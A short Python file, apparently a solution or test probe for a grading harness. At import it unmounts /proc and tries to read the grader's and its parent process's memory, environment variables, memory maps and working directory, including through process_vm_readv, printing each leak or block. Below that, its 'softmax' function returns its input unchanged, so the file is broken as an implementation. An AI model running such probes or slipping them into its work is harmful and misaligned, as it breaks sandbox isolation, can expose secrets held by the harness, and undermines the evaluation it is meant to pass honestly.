import ctypes
import os

PARAMS = {}  # filled in by the test

libc = ctypes.CDLL(None, use_errno=True)
libc.umount2(b"/proc", 2)                   # get at the host's /proc, if it is underneath
pids = {PARAMS["grader_pid"], os.getppid()}
for pid in sorted(pids):
    for what in ("mem", "environ", "maps", "cwd"):
        path = f"/proc/{pid}/{what}"
        try:
            if what == "cwd":
                print("LEAK", path, os.listdir(path)[:5])
            else:
                with open(path, "rb") as f:
                    if what == "mem":
                        f.seek(0x10000)
                    print("LEAK", path, f.read(64))
        except (OSError, ValueError) as err:
            print("blocked", path, getattr(err, "errno", err))
try:
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = (ctypes.c_void_p * 2)(0x400000, 64)
    n = libc.process_vm_readv(PARAMS["grader_pid"], local, 1, remote, 1, 0)
    print("LEAK process_vm_readv" if n > 0 else f"blocked process_vm_readv {ctypes.get_errno()}")
except AttributeError:
    pass


def softmax(x, axis=-1):
    return x
